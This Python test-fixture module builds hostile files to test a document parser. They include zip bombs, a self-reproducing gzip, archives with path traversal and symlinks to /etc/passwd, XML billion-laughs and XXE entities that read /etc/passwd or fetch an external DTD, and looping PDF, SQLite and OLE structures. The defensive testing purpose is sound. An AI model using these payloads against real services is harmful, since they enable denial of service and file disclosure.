"""Files that are made to hurt whoever reads them. None is large on disk; what they claim, or unpack to, is."""

from __future__ import annotations

import bz2
import io
import lzma
import struct
import tarfile
import zipfile
import zlib
from collections.abc import Callable, Mapping

from tests import builders
from tests.builders import databases

_ZEROS = bytes(16 << 20)
_TEXT = "電話 090-1234-5678\n".encode()


# --- archives ---


def layers(levels: int = 5, width: int = 16) -> bytes:
    """As 42.zip: each zip holds many like the next, the last ones zeros; together more than any disk."""
    inner = builders.zip_of({f"{n}.txt": _ZEROS[: 4 << 20] for n in range(2)})
    for _ in range(levels):
        inner = builders.zip_of({f"{n:x}.zip": inner for n in range(width)})
    return inner


def overlapping(entries: int = 2_000, megabytes: int = 8) -> bytes:
    """A directory with many entries for the same packed bytes (Fifield, A better zip bomb, 2019)."""
    packed = zlib.compressobj(9, zlib.DEFLATED, -15)
    data = packed.compress(bytes(megabytes << 20)) + packed.flush()
    crc = zlib.crc32(bytes(megabytes << 20))
    sizes = struct.pack("<LLL", crc, len(data), megabytes << 20)
    local = b"PK\x03\x04" + struct.pack("<HHHHH", 20, 0, 8, 0, 0) + sizes + struct.pack("<HH", 1, 0) + b"a" + data
    entry = b"PK\x01\x02" + struct.pack("<HHHHHH", 20, 20, 0, 8, 0, 0) + sizes
    entry += struct.pack("<HHHHHLL", 1, 0, 0, 0, 0, 0, 0) + b"a"
    return local + _directory(entry * entries, entries, len(local))


def _directory(entries: bytes, count: int, start: int) -> bytes:
    end = struct.pack("<HHHHLLH", 0, 0, count % 65_536, count % 65_536, len(entries), start, 0)
    return entries + b"PK\x05\x06" + end


def lying_sizes() -> bytes:
    """Zip64 sizes beyond all disks for a member of a few bytes."""
    name, data = b"a.txt", _TEXT
    extra = struct.pack("<HHQQ", 1, 16, 1 << 62, 1 << 62)
    sizes = struct.pack("<LLL", zlib.crc32(data), 0xFFFFFFFF, 0xFFFFFFFF)
    lengths = struct.pack("<HH", len(name), len(extra))
    local = b"PK\x03\x04" + struct.pack("<HHHHH", 45, 0, 0, 0, 0) + sizes + lengths + name + extra + data
    entry = b"PK\x01\x02" + struct.pack("<HHHHHH", 45, 45, 0, 0, 0, 0) + sizes + lengths
    entry += struct.pack("<HHHLL", 0, 0, 0, 0, 0) + name + extra
    return local + _directory(entry, 1, len(local))


def many_members(count: int = 1_000_000) -> bytes:
    """A directory of so many entries for one empty member."""
    local = b"PK\x03\x04" + struct.pack("<HHHHHLLLHH", 20, 0, 0, 0, 0, 0, 0, 0, 1, 0) + b"a"
    entry = b"PK\x01\x02" + struct.pack("<HHHHHHLLLHHHHHLL", 20, 20, 0, 0, 0, 0, 0, 0, 0, 1, 0, 0, 0, 0, 0, 0) + b"a"
    size, start = len(entry) * count, len(local)
    end64 = b"PK\x06\x06" + struct.pack("<QHHLLQQQQ", 44, 45, 45, 0, 0, count, count, size, start)
    locator = b"PK\x06\x07" + struct.pack("<LQL", 0, start + size, 1)
    end = b"PK\x05\x06" + struct.pack("<HHHHLLH", 0, 0, 0xFFFF, 0xFFFF, 0xFFFFFFFF, 0xFFFFFFFF, 0)
    return local + entry * count + end64 + locator + end


def outward_zip() -> bytes:
    """Names that point out of the archive, and a link to a file of the system."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        for name in ("../../up.txt", "/etc/absolute.txt", "C:\\windows\\drive.txt", "a/../../b.txt"):
            archive.writestr(name, _TEXT)
        link = zipfile.ZipInfo("link.txt")
        link.create_system, link.external_attr = 3, 0o120777 << 16
        archive.writestr(link, "/etc/passwd")
    return buffer.getvalue()


def outward_tar() -> bytes:
    """The same in a tar, with hard links, devices and pipes."""
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w") as archive:
        for name in ("../../up.txt", "/etc/absolute.txt", "a/../../b.txt"):
            info = tarfile.TarInfo(name)
            info.size = len(_TEXT)
            archive.addfile(info, io.BytesIO(_TEXT))
        kinds = {
            "link": tarfile.SYMTYPE, "hard": tarfile.LNKTYPE, "itself": tarfile.LNKTYPE, "disk": tarfile.BLKTYPE,
            "zero": tarfile.CHRTYPE, "pipe": tarfile.FIFOTYPE,
        }  # fmt: skip
        for name, kind in kinds.items():
            info = tarfile.TarInfo(name)
            info.type, info.linkname, info.devmajor, info.devminor = kind, "/etc/passwd", 1, 5
            info.linkname = name if name == "itself" else info.linkname
            archive.addfile(info)
    return buffer.getvalue()


def sparse_tar() -> bytes:
    """A member of a terabyte of holes (GNU sparse), from half a kilobyte."""
    info = tarfile.TarInfo("holes.bin")
    header = bytearray(info.tobuf(tarfile.GNU_FORMAT))
    header[156:157] = b"S"
    header[386 : 386 + 24] = b"%011o\0%011o\0" % (0, 0)
    header[483:495] = b"%011o\0" % (8**11 - 1)
    header[148:156] = b"        "
    header[148:156] = b"%06o\0 " % sum(header)
    return bytes(header) + bytes(1024)


def repeated(pack: Callable[[bytes], bytes], times: int) -> bytes:
    """Packed zeros, one stream after the other: 16 MiB each."""
    return pack(_ZEROS) * times


def gzip_quine() -> bytes:
    """A gzip file that unpacks to itself, without end (R. Cox, Zip Files All The Way Down, 2010).

    Two instructions of five bytes each: print what follows, and repeat what was printed last.
    """

    def say(size: int) -> bytes:
        """A stored block."""
        return struct.pack("<BHH", 0, size, size ^ 0xFFFF)

    def again(size: int) -> bytes:
        """A block of fixed codes with two matches, 17 to 20 bytes back and as long together: 3 + 15 + 15 + 7 bits."""
        bits = [0, 1, 0]
        for length in (10, size - 10):
            symbol, distance, extra = length - 2, 8, size - 17
            bits += [symbol >> 6 - n & 1 for n in range(7)]
            bits += [distance >> 4 - n & 1 for n in range(5)] + [extra >> n & 1 for n in range(3)]
        bits += [0] * 7
        return sum(bit << n for n, bit in enumerate(bits)).to_bytes(5, "little")

    def whole(crc: int) -> bytes:
        head = b"\x1f\x8b\x08\x08" + bytes(6) + b"self\0"
        tail = b"\x01\0\0\xff\xff" + struct.pack("<LL", crc, 0)
        p, s = len(head) + 5, len(tail) + 5
        end = say(0) + say(0) + say(s)
        parts = (
            *(head, say(p), head, say(p), again(p), say(5), again(p), say(5), say(5)),
            *(say(20), again(p), say(5), say(5), say(20), again(20)),
            *(say(20), again(20), say(20), again(20), say(20), again(20)),
            *(say(20), again(20), end, again(20), end, again(s), tail, again(s), tail),
        )
        return b"".join(parts)

    size = len(whole(0))  # stands in it twice, as the checksum does

    def fixed(crc: int) -> bytes:
        data = bytearray(whole(crc))
        for place in (size - 4, size - 4 - 13 - 5):
            struct.pack_into("<L", data, place, size)
        return bytes(data)

    # Its checksum is in it twice and is linear in it: 32 equations, solved by elimination.
    start = zlib.crc32(fixed(0))
    rows = [(zlib.crc32(fixed(1 << n)) ^ start ^ 1 << n, 1 << n) for n in range(32)]
    rest, crc = start, 0
    for bit in range(32):
        pivot = next((row for row in rows if row[0] >> bit & 1), None)
        if pivot is None:
            continue
        rows = [(a ^ pivot[0], b ^ pivot[1]) if a >> bit & 1 else (a, b) for a, b in rows if (a, b) != pivot]
        if rest >> bit & 1:
            rest, crc = rest ^ pivot[0], crc ^ pivot[1]
    return fixed(crc)


# --- XML and what is made of it ---

_DTD = "".join(f'<!ENTITY e{n} "{f"&e{n - 1};" * 10}">' for n in range(1, 10))
LAUGHS = f'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY e0 "ha">{_DTD}]>'
EXTERNAL = (
    '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY e9 SYSTEM "file:///etc/passwd">'
    '<!ENTITY % p SYSTEM "http://192.0.2.1/a.dtd">%p;]>'
)
QUADRATIC = f'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY e9 "{"a" * 100_000}">]>'


def xml(head: str, times: int = 1) -> bytes:
    return f"{head}<a>{'<b>&e9;</b>' * times}<c>090-1234-5678</c></a>".encode()


def svg(head: str) -> bytes:
    return f'{head}<svg xmlns="http://www.w3.org/2000/svg"><text>&e9;</text><text>090-1234-5678</text></svg>'.encode()


def replaced(package: bytes, part: str, change: Callable[[bytes], bytes]) -> bytes:
    """An Office file with one of its parts changed."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(package)) as old, zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as new:
        for name in old.namelist():
            new.writestr(name, change(old.read(name)) if name == part else old.read(name))
    return buffer.getvalue()


def docx_with(head: str) -> bytes:
    """A document whose text names the entity e9 of `head`."""

    def change(part: bytes) -> bytes:
        body = part.partition(b"?>")[2]
        return head.partition("?>")[2].encode().join((b'<?xml version="1.0"?>', body.replace(b"HERE", b"&e9;")))

    return replaced(builders.docx(["HERE", "090-1234-5678"]), "word/document.xml", change)


def xlsx_with(head: str) -> bytes:
    def change(part: bytes) -> bytes:
        body = part.partition(b"?>")[2]
        return head.partition("?>")[2].encode().join((b'<?xml version="1.0"?>', body.replace(b"HERE", b"&e9;")))

    return replaced(builders.xlsx({"S": [["HERE"], ["090-1234-5678"]]}), "xl/sharedStrings.xml", change)


def _sheet(change: Callable[[bytes], bytes]) -> bytes:
    return replaced(builders.xlsx({"S": [["電話"], ["090-1234-5678"]]}), "xl/worksheets/sheet1.xml", change)


def far_cell(row: int, column: str = "A") -> bytes:
    """A workbook with a cell in a row, or column, far down."""
    cell = f'<row r="{row}"><c r="{column}{row}"><v>1</v></c></row></sheetData>'.encode()
    return _sheet(lambda part: part.replace(b"</sheetData>", cell))


def dimension(area: str = "A1:XFD10000000") -> bytes:
    return _sheet(lambda part: part.replace(b'ref="A1:A2"', f'ref="{area}"'.encode()))


def shared_strings(megabytes: int = 512) -> bytes:
    """One string of so many bytes, and cells that all name it."""
    strings = b"<t>" + b"a" * (megabytes << 20) + b"</t>"
    package = replaced(
        builders.xlsx({"S": [["x"]] * 3}), "xl/sharedStrings.xml", lambda part: part.replace(b"<t>x</t>", strings)
    )
    return package


def nested(opening: str, closing: str, levels: int = 100_000, inside: str = "090-1234-5678") -> bytes:
    return (opening * levels + inside + closing * levels).encode()


# --- PDF ---


def pdf(objects: Mapping[int, bytes], trailer: bytes = b"/Root 1 0 R") -> bytes:
    """Objects by number, with a table of where they are."""
    out, places = bytearray(b"%PDF-1.5\n"), {}
    for number, body in objects.items():
        places[number] = len(out)
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    table, size = len(out), max(objects) + 1
    out += b"xref\n0 %d\n" % size
    for number in range(size):
        out += b"%010d %05d %c \n" % (places.get(number, 0), 0, b"n" if number in places else b"f")
    return bytes(out + b"trailer\n<</Size %d %s>>\nstartxref\n%d\n%%%%EOF" % (size, trailer, table))


def _stream(data: bytes, keys: bytes = b"", level: int = 9) -> bytes:
    packed = zlib.compress(data, level)
    return b"<</Length %d /Filter /FlateDecode %s>>\nstream\n%s\nendstream" % (len(packed), keys, packed)


_CATALOG = b"<</Type /Catalog /Pages 2 0 R>>"
_FONT = b"<</Type /Font /Subtype /Type1 /BaseFont /Helvetica>>"
_PAGE = b"<</Type /Page /Parent 2 0 R /MediaBox [0 0 600 800] /Contents 4 0 R /Resources 5 0 R>>"
_SHOWN = b"BT /F1 12 Tf 72 700 Td (090-1234-5678) Tj ET "


def _pages(tree: bytes, content: bytes = b"", resources: bytes = b"", more: Mapping[int, bytes] | None = None) -> bytes:
    objects = {1: _CATALOG, 2: tree, 3: _PAGE, 4: content or _stream(_SHOWN)}
    objects[5] = b"<</Font <</F1 6 0 R>> %s>>" % resources
    return pdf({**objects, 6: _FONT, **(more or {})})


PDFS: dict[str, Callable[[], bytes]] = {
    "loop-of-pages": lambda: _pages(b"<</Type /Pages /Kids [3 0 R 2 0 R 2 0 R] /Count 9>>"),
    "many-pages": lambda: _pages(b"<</Type /Pages /Kids [3 0 R] /Count 99999999>>"),
    "same-page": lambda: _pages(b"<</Type /Pages /Kids [%s] /Count 60000>>" % (b"3 0 R " * 60_000)),
    "loop-of-forms": lambda: _pages(
        b"<</Type /Pages /Kids [3 0 R] /Count 1>>",
        _stream(_SHOWN + b"/X Do /X Do"),
        b"/XObject <</X 7 0 R>>",
        {7: _stream(b"/X Do /X Do", b"/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Resources 5 0 R")},
    ),
    "deep-arrays": lambda: _pages(
        b"<</Type /Pages /Kids [3 0 R] /Count 1>>", _stream(_SHOWN + b"[" * 200_000 + b"]" * 200_000 + b" TJ")
    ),
    "deep-objects": lambda: _pages(
        b"<</Type /Pages /Kids [3 0 R] /Count 1>>", more={7: b"[" * 200_000 + b"]" * 200_000}
    ),
    "bomb": lambda: _pages(b"<</Type /Pages /Kids [3 0 R] /Count 1>>", _stream(_SHOWN + b" " * (1 << 29))),
    "layers": lambda: _pages(
        b"<</Type /Pages /Kids [3 0 R] /Count 1>>",
        b"<</Length %d /Filter [/FlateDecode /FlateDecode]>>\nstream\n%s\nendstream"
        % ((lambda data: (len(data), data))(zlib.compress(zlib.compress(b" " * (1 << 29), 9), 9))),
    ),
    "table-loop": lambda: pdf({1: _CATALOG, 2: b"<</Type /Pages /Kids [] /Count 0>>"}, b"/Root 1 0 R /Prev 9"),
    "endless-length": lambda: _pages(
        b"<</Type /Pages /Kids [3 0 R] /Count 1>>", _stream(_SHOWN).replace(b"/Length ", b"/Length 4 0 R /X ")
    ),
    "wide-object-stream": lambda: _pages(
        b"<</Type /Pages /Kids [3 0 R] /Count 1>>",
        more={7: _stream(b"1 0 " * 1_000_000, b"/Type /ObjStm /N 2147483647 /First 4000000")},
    ),
}


# --- mail, RTF, OLE, Parquet, pictures ---


def letters(levels: int = 1_000) -> bytes:
    """A mail in a mail in a mail."""
    head = b"From: a@example.jp\nTo: b@example.jp\nMIME-Version: 1.0\nContent-Type: message/rfc822\n\n"
    return head * levels + b"From: a@example.jp\nTo: b@example.jp\n\n090-1234-5678\n"


def mail_parts(count: int = 1_000_000, nested: bool = False) -> bytes:
    """A mail of so many parts, side by side or each in the one before."""
    head = b"From: a@example.jp\nTo: b@example.jp\nMIME-Version: 1.0\nContent-Type: multipart/mixed; boundary=b0\n\n"
    if not nested:
        return head + b"--b0\n\n090-1234-5678\n" + b"--b0\n\nx\n" * count + b"--b0--\n"
    inner = b"".join(b"--b%d\nContent-Type: multipart/mixed; boundary=b%d\n\n" % (n, n + 1) for n in range(count))
    return head + inner + b"--b%d\n\n090-1234-5678\n" % count


def rtf_bin(size: int) -> bytes:
    """Binary data of a length that lies."""
    return b"{\\rtf1 090-1234-5678\\par \\bin%d abc 03-1234-5678\\par}" % size


def looping_ole(data: bytes) -> bytes:
    """A compound file in whose table of sectors every sector is followed by itself."""
    shift = 1 << struct.unpack_from("<H", data, 30)[0]
    (first,) = struct.unpack_from("<L", data, 76)
    start = (first + 1) * shift
    out = bytearray(data)
    for number in range(shift // 4):
        (following,) = struct.unpack_from("<L", out, start + 4 * number)
        if following < 0xFFFFFFF0:
            struct.pack_into("<L", out, start + 4 * number, number)
    return bytes(out)


def looping_directory(data: bytes) -> bytes:
    """A compound file whose directory goes on with itself."""
    shift = 1 << struct.unpack_from("<H", data, 30)[0]
    (table,) = struct.unpack_from("<L", data, 76)
    (first,) = struct.unpack_from("<L", data, 48)
    out = bytearray(data)
    struct.pack_into("<L", out, (table + 1) * shift + 4 * first, first)
    return bytes(out)


def lying_footer(data: bytes, size: int) -> bytes:
    """Parquet with a footer of another size than it says."""
    return data[:-8] + struct.pack("<L", size) + data[-4:]


def wide_dictionary(megabytes: int = 8, rows: int = 200_000) -> bytes:
    """Parquet with one value of so many bytes in all rows: small in a dictionary, and nowhere else."""
    import pyarrow as pa
    import pyarrow.parquet as pq

    values = pa.DictionaryArray.from_arrays(pa.array([0] * rows, pa.int32()), pa.array(["a" * (megabytes << 20)]))
    sink = pa.BufferOutputStream()
    pq.write_table(pa.table({"電話": values}), sink, compression="zstd")
    return bytes(sink.getvalue())


def endless_sqlite(levels: int = 18, of_schema: bool = False) -> bytes:
    """SQLite whose pages name the same page sixty times, level by level: sixty to the eighteenth rows in ten kilobytes.

    of_schema: the table of tables itself.
    """
    script = "PRAGMA page_size = 512; CREATE TABLE t (a TEXT); INSERT INTO t VALUES ('090-1234-5678');"
    data = bytearray(databases.sqlite(script))
    root = 0 if of_schema else 512
    start = 100 if of_schema else 0
    last = bytes(data[root : root + 512])
    pages = len(data) // 512

    def inner(child: int, begin: int) -> bytes:
        page = bytearray(512)
        cells = [512 - 5 * (n + 1) for n in range(50)]
        struct.pack_into(">BHHHBL", page, begin, 5, 0, len(cells), cells[-1], 0, child)
        for n, place in enumerate(cells):
            struct.pack_into(">H", page, begin + 12 + 2 * n, place)
            struct.pack_into(">LB", page, place, child, 1)
        return bytes(page)

    data[root + start : root + 512] = inner(pages + 1, start)[start:]
    for level in range(levels - 1):
        data += inner(pages + 2 + level, 0)
    leaf = bytearray(512)
    if of_schema:  # a leaf of its own: what page 1 had, without the header of the file
        (count,) = struct.unpack_from(">H", last, 103)
        leaf[:] = last
        leaf[0:8] = last[100:108]
        leaf[8 : 8 + 2 * count] = last[108 : 108 + 2 * count]
        leaf[8 + 2 * count : 110] = bytes(102 - 2 * count)
    else:
        leaf[:] = last
    data += leaf
    struct.pack_into(">L", data, 28, len(data) // 512)
    return bytes(data)


def looping_view() -> bytes:
    """SQLite with a view that counts to eternity, and a trigger and a generated column that would like to."""
    return databases.sqlite(
        "CREATE TABLE t (a TEXT); INSERT INTO t VALUES ('090-1234-5678');"
        "CREATE VIEW v AS WITH RECURSIVE n(i) AS (SELECT 1 UNION ALL SELECT i + 1 FROM n) SELECT i FROM n;"
    )


def avro_of_nothing(count: int = 1 << 60) -> bytes:
    """Avro with a block of so many records, each an array of as many nulls, which take no bytes."""

    def number(value: int) -> bytes:
        value, out = value << 1, b""
        while value > 127:
            out, value = out + bytes([value & 127 | 128]), value >> 7
        return out + bytes([value])

    schema = b'{"type": "record", "name": "r", "fields": [{"name": "a", "type": {"type": "array", "items": "null"}}]}'
    meta = number(1) + number(11) + b"avro.schema" + number(len(schema)) + schema + number(0)
    block = number(count) + number(0)
    return b"Obj\x01" + meta + b"s" * 16 + number(count) + number(len(block)) + block + b"s" * 16


def picture(width: int = 100_000, height: int = 100_000) -> bytes:
    """A PNG of one colour: ten thousand million points in a few kilobytes. Its data end early."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">L", len(data)) + kind + data + struct.pack(">L", zlib.crc32(kind + data))

    head = struct.pack(">LLBBBBB", width, height, 1, 0, 0, 0, 0)
    body = zlib.compress(bytes((width // 8 + 1) * min(height, 1000)), 9)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", body) + chunk(b"IEND", b"")


def wide_csv(columns: int = 1_000_000, rows: int = 3) -> bytes:
    line = b",".join(b"%d" % n for n in range(columns)) + b"\n"
    return b",".join(b"c%d" % n for n in range(columns)) + b"\n" + line * (rows - 1) + b"090-1234-5678\n"


PACKERS: dict[str, Callable[[bytes], bytes]] = {
    "gz": builders.gzip_of,
    "bz2": bz2.compress,
    "xz": lzma.compress,
}
